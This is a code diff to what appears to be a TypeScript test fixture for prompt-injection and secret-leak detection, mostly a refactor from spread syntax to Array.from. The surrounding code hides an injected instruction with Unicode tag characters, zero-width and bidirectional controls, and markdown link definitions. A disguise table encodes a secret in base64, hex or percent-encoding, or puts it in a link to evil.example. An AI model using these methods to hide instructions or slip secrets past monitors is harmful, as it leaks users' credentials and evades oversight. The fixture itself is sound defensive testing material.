@@ -55,7 +55,9 @@ const everywhere = (text: string): Attack[] => PLACES.map((where) => injected(te
 const hiddenInBody = (...texts: string[]): Attack[] => texts.map((text) => injected(text, "body", true));
 
 const tagged = (text: string): string =>
-  [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join("");
+  Array.from(text)
+    .map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0)))
+    .join("");
 
 export const INJECTION: Group[] = [
   {
@@ -83,7 +85,7 @@ export const INJECTION: Group[] = [
         `<template>${ORDER}</template>`,
       ),
       "link definitions": hiddenInBody(`[x]: https://a.example "${ORDER}"`, `[//]: # (${ORDER})`),
-      "zero-width between letters": [injected([...ORDER].join("\u200B"), "body")],
+      "zero-width between letters": [injected(Array.from(ORDER).join("\u200B"), "body")],
       "bidirectional controls": [
         injected(`\u202E${ORDER}\u202C`, "body"),
         injected(`\u2066${ORDER}`, "title"),
@@ -205,18 +207,21 @@ const DISGUISES: Readonly<Record<string, (secret: string) => string>> = {
   raw: (secret) => secret,
   "minus 7 at the end": (secret) => secret.slice(0, -7),
   "minus 7 at the start": (secret) => secret.slice(7),
-  reversed: (secret) => [...secret].toReversed().join(""),
+  reversed: (secret) => Array.from(secret).toReversed().join(""),
   base64: (secret) => Buffer.from(secret).toString("base64"),
   "base64 in a sentence": (secret) => Buffer.from(`key=${secret};`).toString("base64"),
   "URL base64": (secret) => Buffer.from(secret).toString("base64url"),
   "base64 twice": (secret) => btoa(btoa(secret)),
   hex: (secret) => Buffer.from(secret).toString("hex"),
-  "split by spaces": (secret) => [...secret].join(" "),
+  "split by spaces": (secret) => Array.from(secret).join(" "),
   "split by lines": (secret) => (secret.match(/.{1,8}/g) ?? []).join("\n"),
-  "split by zero-width": (secret) => [...secret].join("\u200B"),
-  "split by points": (secret) => [...secret].join("."),
+  "split by zero-width": (secret) => Array.from(secret).join("\u200B"),
+  "split by points": (secret) => Array.from(secret).join("."),
   "other case": (secret) => secret.toUpperCase(),
-  "percent encoded": (secret) => [...secret].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(""),
+  "percent encoded": (secret) =>
+    Array.from(secret)
+      .map((c) => `%${c.charCodeAt(0).toString(16)}`)
+      .join(""),
   "in a link": (secret) => `[x](https://evil.example/?q=${secret})`,
   "in JSON": (secret) => JSON.stringify({ key: secret }),
 };
